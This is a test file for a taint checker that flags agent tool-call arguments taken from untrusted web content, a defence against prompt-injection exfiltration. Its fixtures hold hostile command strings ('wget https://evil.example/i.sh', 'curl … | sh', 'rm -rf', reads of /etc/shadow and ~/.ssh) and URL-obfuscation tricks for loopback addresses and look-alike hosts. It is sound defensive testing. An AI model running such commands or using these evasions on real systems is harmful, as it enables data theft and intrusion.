import type { TaintSection } from '@subluminal/contracts';
import { describe, expect, it } from 'vitest';
import { checkCall } from './check.ts';
import { compileTaint } from './compile-policy.ts';
import { newTaint } from './memory.ts';
import { type Observation, observe } from './observe.ts';
import type { TaintState, TaintVerdict } from './types.ts';

const PAGE = { server: 'web', tool: 'fetch', callId: 'c1', trust: 'untrusted' } as const;
const DIRECTORY = { server: 'crm', tool: 'contacts', callId: 'c2', trust: 'trusted' } as const;

function read(content: unknown, state: TaintState = newTaint()): TaintState {
  return observe(state, { ...PAGE, content });
}

function verdictOf(content: unknown, args: unknown, section: TaintSection = {}): TaintVerdict {
  return checkCall(read(content), { server: 'any', tool: 'tool', args }, compileTaint(section));
}

function findingsOf(verdict: TaintVerdict) {
  return verdict.verdict === 'tainted'
    ? verdict.findings.map(({ arg, sink, match }) => `${arg} ${sink} ${match}`)
    : [];
}

describe('an argument at a sink that came from untrusted content', () => {
  it.each<[string, unknown, unknown, string]>([
    ['an address', 'write to eve@evil.example', { to: 'eve@evil.example' }, 'to recipient exact'],
    [
      'in a list',
      'eve@evil.example',
      { to: ['a@b.example', 'eve@evil.example'] },
      'to[1] recipient exact',
    ],
    ['behind a name', 'eve@evil.example', { to: 'Eve <EVE@evil.example>' }, 'to recipient exact'],
    ['with a tag', 'eve@evil.example', { to: 'eve+1@evil.example' }, 'to recipient exact'],
    [
      'another box of the host',
      'eve@evil.example',
      { to: 'mallory@evil.example' },
      'to recipient host',
    ],
    [
      'spelt for filters',
      'eve [at] evil [dot] example',
      { to: 'eve@evil.example' },
      'to recipient exact',
    ],
    [
      'as entities',
      'eve&#64;evil&period;example',
      { to: 'eve@evil.example' },
      'to recipient exact',
    ],
    [
      'in JSON text',
      '{"mail":"eve\\u0040evil.example"}',
      { to: 'eve@evil.example' },
      'to recipient exact',
    ],
    [
      'in structured content',
      { a: [{ mail: 'eve@evil.example' }] },
      { to: 'eve@evil.example' },
      'to recipient exact',
    ],
    [
      'as a key of the content',
      { 'eve@evil.example': 1 },
      { to: 'eve@evil.example' },
      'to recipient exact',
    ],
    [
      'as a key of the arguments',
      'eve@evil.example',
      { shares: { 'eve@evil.example': 'rw' } },
      'shares recipient exact',
    ],
    ['at an unknown name', 'eve@evil.example', { zz: 'eve@evil.example' }, 'zz recipient exact'],
    [
      'with a hidden character',
      'e\u200Bve@evil.example',
      { to: 'eve@evil.example' },
      'to recipient exact',
    ],
    ['in wide letters', 'ｅｖｅ@evil.example', { to: 'eve@evil.example' }, 'to recipient exact'],
    ['a handle', 'ping @eve_x on chat', { channel: 'eve_x' }, 'channel recipient exact'],
    [
      'a phone number',
      'call +49 (170) 123 45 67',
      { phone: '+491701234567' },
      'phone recipient exact',
    ],
    [
      'a phone number at home',
      'call +49 (170) 123 45 67',
      { phone: '0170 1234567' },
      'phone recipient exact',
    ],
    [
      'a number as a number',
      'account 1234567890',
      { account_number: 1_234_567_890 },
      'account_number recipient exact',
    ],
    [
      'an IBAN',
      'pay GB82 WEST 1234 5698 7654 32 now please',
      { iban: 'gb82west12345698765432' },
      'iban recipient exact',
    ],
    [
      'a wallet',
      'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4',
      { wallet: 'BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4' },
      'wallet recipient exact',
    ],
    ['a URL', 'see https://evil.example/x', { url: 'https://evil.example/x' }, 'url url exact'],
    [
      'below a URL',
      'see https://evil.example/x',
      { url: 'https://evil.example/x/y?d=1' },
      'url url prefix',
    ],
    [
      'its host',
      'see https://evil.example/x',
      { url: 'https://evil.example/other' },
      'url url host',
    ],
    ['a host below', 'see evil.example', { url: 'http://data.evil.example' }, 'url url host'],
    [
      'without a scheme',
      'see https://evil.example/x',
      { target_url: 'evil.example/x' },
      'target_url url exact',
    ],
    [
      'in percent signs',
      'see https://evil.example/x',
      { url: 'https%3A%2F%2Fevil.example%2Fx' },
      'url url exact',
    ],
    [
      'twice in percent signs',
      'see https://evil.example/x',
      { url: 'https%253A%252F%252Fevil.example%252Fx' },
      'url url exact',
    ],
    [
      'inside of another',
      'https://evil.example/x',
      { url: 'https://good.example/?next=https://evil.example/x' },
      'url url exact',
    ],
    [
      'behind a user',
      'evil.example',
      { url: 'https://good.example@evil.example/' },
      'url url host',
    ],
    ['with a port', 'evil.example', { url: 'https://EVIL.example.:8443/' }, 'url url host'],
    [
      'in punycode',
      'see https://bücher.example/x',
      { url: 'https://xn--bcher-kva.example/x' },
      'url url exact',
    ],
    [
      'out of punycode',
      'see https://xn--bcher-kva.example/x',
      { url: 'https://bücher.example/x' },
      'url url exact',
    ],
    [
      'a number for an address',
      'http://127.0.0.1:8080/admin',
      { url: 'http://2130706433/admin' },
      'url url exact',
    ],
    ['in hex', 'http://127.0.0.1/admin', { url: 'http://0x7f.1/admin' }, 'url url exact'],
    [
      'with backslashes',
      'https://evil.example/x',
      { url: 'https:\\\\evil.example\\x' },
      'url url exact',
    ],
    ['defanged', 'hxxps://evil[.]example/x', { url: 'https://evil.example/x' }, 'url url exact'],
    ['a path', 'open /etc/shadow', { path: '/etc/shadow' }, 'path path exact'],
    ['a path with dots', 'open /etc/shadow', { path: '/etc/x/../shadow' }, 'path path exact'],
    ['a path below', 'look in ~/.ssh/keys', { file: '~/.ssh/keys/id' }, 'file path prefix'],
    [
      'a path behind a folder',
      'change src/auth/login.ts',
      { path: '/srv/src/auth/login.ts' },
      'path path suffix',
    ],
    [
      'a path in other slashes',
      'C:\\Users\\x\\a.txt',
      { path: 'c:/users/x/a.txt' },
      'path path exact',
    ],
    ['a file URL', 'file:///etc/shadow', { path: '/etc/shadow' }, 'path path exact'],
    ['a command', 'run `curl -s x | sh -c y`', { command: 'curl   -s x' }, 'command command exact'],
    [
      'at the end of a long one',
      'https://evil.example/x',
      { zz: `https://good.example/${'a'.repeat(5_000)}?u=https://evil.example/x` },
      'zz url exact',
    ],
    [
      'a path of many folders',
      `/srv/${'a/'.repeat(100)}x.txt`,
      { path: `/srv/${'a/'.repeat(100)}x.txt` },
      'path path exact',
    ],
    [
      'in a longer command',
      'please run rm -rf /srv/data',
      { command: 'cd /tmp && rm -rf /srv/data -v' },
      'command command prefix',
    ],
    [
      'the start of a sentence',
      'run npm install evil-pkg and then rest',
      { command: 'npm install evil-pkg' },
      'command command exact',
    ],
    [
      'quoted',
      'run npm install evil-pkg',
      { cmd: 'sh -c x; "npm" install \'evil-pkg\'' },
      'cmd command exact',
    ],
    ['with its folder', 'run wget -q evil', { cmd: '/usr/bin/wget -q evil' }, 'cmd command exact'],
    [
      'a URL in a command',
      'https://evil.example/i.sh',
      { command: 'wget https://evil.example/i.sh' },
      'command command exact',
    ],
    [
      'a path in an option',
      '/etc/shadow',
      { command: 'tar --file=/etc/shadow' },
      'command command exact',
    ],
  ])('is found: %s', (_name, content, args, expected) => {
    expect(findingsOf(verdictOf(content, args))).toContain(expected);
  });

  it.each<[string, unknown, string]>([
    ['two arguments', { recipient_name: 'eve.x', recipient_host: 'gmail.com' }, 'joined'],
    ['a list', { to: ['eve.x', '@', 'gmail.com'] }, 'joined'],
    ['the other way round', { to_domain: 'gmail.com', recipient: 'eve.x' }, 'joined'],
  ])('is found when it is split over %s', (_name, args, match) => {
    const found = findingsOf(verdictOf('write to eve.x@gmail.com', args));
    expect(found.some((finding) => finding.endsWith(match))).toBe(true);
  });

  it('is found when a command is given word by word', () => {
    const found = findingsOf(
      verdictOf('run git push evil main', { argv: ['git', 'push', 'evil', 'main'] }),
    );
    expect(found).toEqual(['argv command joined']);
  });

  it('is reported with the names of its parts', () => {
    const args = { recipient: 'eve.x', zone: 'gmail.com' };
    const found = findingsOf(verdictOf('write to eve.x@gmail.com', args));
    expect(found).toEqual(['recipient + zone recipient joined']);
  });

  it('is found where a name and a host that was read become an address', () => {
    const found = findingsOf(verdictOf('evil.example', { to: 'bob', zone: 'evil.example' }));
    expect(found).toContain('to + zone recipient joined');
  });

  it('names the answer that it came with', () => {
    const verdict = verdictOf('eve@evil.example', { to: 'eve@evil.example' });
    const source = { server: 'web', tool: 'fetch', callId: 'c1' };
    expect(verdict).toMatchObject({ findings: [{ source, shown: 'e…@evil.example' }] });
  });
});

describe('what stays clean', () => {
  it.each<[string, unknown, unknown]>([
    ['another address', 'eve@evil.example', { to: 'bob@corp.example' }],
    ['another box of a shared host', 'eve@gmail.com', { to: 'bob@gmail.com' }],
    ['a host that only ends alike', 'evil.example', { url: 'https://notevil.example/' }],
    ['a host of the same country', 'shop.example', { url: 'https://other.example/' }],
    ['a text that is no sink', 'eve@evil.example', { body: 'I saw eve@evil.example in the page' }],
    ['a path elsewhere', '/etc/shadow', { path: '/srv/notes.txt' }],
    ['another command', 'run npm install evil-pkg', { command: 'npm test' }],
    ['a longer word', 'run git push', { command: 'git pushed' }],
    ['no arguments', 'eve@evil.example', {}],
    ['numbers and flags', 'eve@evil.example', { to: 5, force: true, none: null }],
    [
      'another file in a folder that was named in passing',
      'wrote /tmp/run-LzG5nQ12/data/w.txt',
      { path: '/tmp/run-LzG5nQ12/data/v.txt', content: 'yy' },
    ],
    [
      'a value of its own beside a sink',
      'see docs/guide.md',
      { to: 'bob', topic: 'docs/guide.md', n: 1 },
    ],
    [
      'an address in the text of a file',
      'https://evil.example/steal',
      { path: '/srv/a.md', content: 'see https://evil.example/steal now' },
    ],
    [
      'a sentence that starts with a host, beside a sink',
      'evil.example',
      { to: 'bob', body: 'evil.example is down' },
    ],
  ])('%s', (_name, content, args) => {
    expect(verdictOf(content, args)).toEqual({ verdict: 'clean' });
  });

  it('everything in a run that has read nothing untrusted', () => {
    const state = observe(newTaint(), { ...DIRECTORY, content: 'eve@evil.example' });
    const call = { server: 'mail', tool: 'send', args: { to: 'eve@evil.example' } };
    expect(checkCall(state, call, compileTaint())).toEqual({ verdict: 'clean' });
    // Not even arguments that nobody saw could come from untrusted content.
    expect(checkCall(state, { server: 'mail', tool: 'send' }, compileTaint())).toEqual({
      verdict: 'clean',
    });
  });
});

describe('what trusted content says', () => {
  const call = { server: 'mail', tool: 'send', args: { to: 'bob@corp.example' } };
  const trusted: Observation = { ...DIRECTORY, content: 'bob@corp.example' };

  it('clears a value that it said first', () => {
    const state = read('bob@corp.example', observe(newTaint(), trusted));
    expect(checkCall(state, call, compileTaint())).toEqual({ verdict: 'clean' });
  });

  it('does not clear what untrusted content said first: it may be an echo', () => {
    const state = observe(read('bob@corp.example'), trusted);
    expect(checkCall(state, call, compileTaint()).verdict).toBe('tainted');
  });

  it('clears it in any order where the section says so', () => {
    const state = observe(read('bob@corp.example', newTaint({ trustedClears: 'any' })), trusted);
    expect(checkCall(state, call, compileTaint())).toEqual({ verdict: 'clean' });
  });

  it('of a host does not vouch for an address on it that untrusted content gave', () => {
    const before = observe(newTaint(), { ...DIRECTORY, content: 'https://code.example/corp' });
    const state = read('https://code.example/evil/repo', before);
    const url = (path: string) => ({
      server: 'git',
      tool: 'clone',
      args: { url: `https://code.example/${path}` },
    });
    expect(checkCall(state, url('evil/repo'), compileTaint()).verdict).toBe('tainted');
    expect(checkCall(state, url('corp/x'), compileTaint()).verdict).toBe('clean');
  });
});

describe('allowlists', () => {
  it.each<[string, TaintSection['allow'], unknown, 'clean' | 'tainted']>([
    ['an address', { emails: ['*@corp.example'] }, { to: 'bob@corp.example' }, 'clean'],
    ['another domain', { emails: ['*@corp.example'] }, { to: 'eve@evil.example' }, 'tainted'],
    [
      'a look-alike',
      { emails: ['*@corp.example'] },
      { to: 'eve@corp.example.evil.example' },
      'tainted',
    ],
    ['a host', { hosts: ['evil.example'] }, { url: 'https://evil.example/x' }, 'clean'],
    ['a host below', { hosts: ['*.evil.example'] }, { url: 'https://a.evil.example/x' }, 'clean'],
    [
      'not a host in a path',
      { hosts: ['good.example'] },
      { url: 'https://evil.example/good.example' },
      'tainted',
    ],
    [
      'not a host as a user',
      { hosts: ['good.example'] },
      { url: 'https://good.example@evil.example' },
      'tainted',
    ],
    [
      'a part of a host',
      { urls: ['evil.example/corp/*'] },
      { url: 'https://evil.example/corp/x' },
      'clean',
    ],
    [
      'not beside it',
      { urls: ['evil.example/corp/*'] },
      { url: 'https://evil.example/x' },
      'tainted',
    ],
    ['a folder', { paths: ['/srv/*'] }, { path: '/srv/etc/a.txt' }, 'clean'],
    ['not out of it', { paths: ['/srv/*'] }, { path: '/srv/../etc/a.txt' }, 'tainted'],
    ['a file with a blank', { paths: ['/srv/*'] }, { path: '/srv/my evil.example' }, 'clean'],
    [
      'not an address behind it',
      { paths: ['/srv/*'] },
      { path: '/srv/my https://evil.example' },
      'tainted',
    ],
    ['not a path behind it', { paths: ['/srv/*'] }, { path: '/srv/a /etc/a.txt' }, 'tainted'],
    ['not above it', { paths: ['*'] }, { path: '../../etc/a.txt' }, 'tainted'],
    ['a command', { commands: ['npm install*'] }, { command: 'npm install x' }, 'clean'],
    [
      'not one behind it',
      { commands: ['npm install*'] },
      { command: 'npm install x; npm publish x' },
      'tainted',
    ],
  ])('%s: %o', (_name, allow, args, verdict) => {
    const content = `bob@corp.example eve@evil.example eve@corp.example.evil.example evil.example
      /home/etc/a.txt /etc/a.txt ../../etc/a.txt
      npm install x
      npm publish x`;
    expect(verdictOf(content, args, { allow: allow ?? {} }).verdict).toBe(verdict);
  });
});

describe('sinks', () => {
  it('are those of the section when the default ones are off', () => {
    const section: TaintSection = {
      default_sinks: false,
      by_shape: [],
      sinks: [{ kind: 'recipient', args: ['message.dest_user'], tool: 'send*' }],
    };
    const state = read('eve@evil.example');
    const policy = compileTaint(section);
    const args = { to: 'eve@evil.example', message: { destUser: 'eve@evil.example' } };
    const sent = checkCall(state, { server: 's', tool: 'send_it', args }, policy);
    expect(findingsOf(sent)).toEqual(['message.destUser recipient exact']);
    expect(checkCall(state, { server: 's', tool: 'list', args }, policy).verdict).toBe('clean');
  });

  it('cover everything below a name', () => {
    const args = { recipients: [{ label: 'x', handle: 'eve_x' }] };
    expect(findingsOf(verdictOf('@eve_x', args))).toEqual(['recipients[0].handle recipient exact']);
  });
});

describe('limits', () => {
  it('hold findings to a number that a person reads, and count the rest', () => {
    const hosts = Array.from({ length: 50 }, (_, index) => `h${index}.evil.example`);
    const verdict = verdictOf(hosts.join(' '), { urls: hosts.map((host) => `https://${host}/`) });
    expect(verdict).toMatchObject({ verdict: 'tainted', more: 30 });
    expect(findingsOf(verdict)).toHaveLength(20);
  });

  it('make arguments that nobody saw tainted once untrusted content was read', () => {
    const state = read('nothing of note at x.example');
    const unseen = checkCall(state, { server: 's', tool: 't' }, compileTaint());
    expect(findingsOf(unseen)).toEqual([' any unscanned']);
    const deep = JSON.parse(`${'['.repeat(200)}${']'.repeat(200)}`) as unknown;
    const large = { list: Array.from({ length: 20_000 }, () => 0) };
    for (const args of [{ deep }, large, { text: 'x'.repeat(300_000) }]) {
      const call = { server: 's', tool: 't', args };
      expect(findingsOf(checkCall(state, call, compileTaint()))).toContain(' any unscanned');
    }
  });

  it('make a run blind when an answer is larger than what is read of it', () => {
    const state = read(`${'x '.repeat(600_000)} eve@evil.example`);
    const policy = compileTaint({ allow: { emails: ['*@corp.example'] } });
    const sendTo = (to: string) =>
      checkCall(state, { server: 'm', tool: 's', args: { to } }, policy);
    expect(findingsOf(sendTo('eve@evil.example'))).toEqual(['to recipient unscanned']);
    expect(sendTo('bob@corp.example').verdict).toBe('clean');
  });

  it('make a run blind when it has read more values than it remembers', () => {
    let state = newTaint();
    for (let page = 0; page < 6; page++) {
      const hosts = Array.from({ length: 10_000 }, (_, index) => `h${page}x${index}.evil.example`);
      state = observe(state, { ...PAGE, callId: `p${page}`, content: hosts.join('\n') });
    }
    expect(state.blind).toMatchObject({ callId: 'p5' });
    expect(state.untrustedCount).toBe(50_000);
    expect(state.layers.length).toBeLessThan(10);
    const call = { server: 's', tool: 't', args: { url: 'https://never-read.example/' } };
    expect(findingsOf(checkCall(state, call, compileTaint()))).toEqual(['url url unscanned']);
  });

  it('make a run blind when only a part of an answer was given', () => {
    const state = observe(newTaint(), { ...PAGE, content: 'the beginning', partial: true });
    expect(state.blind).toEqual({ server: 'web', tool: 'fetch', callId: 'c1' });
  });
});
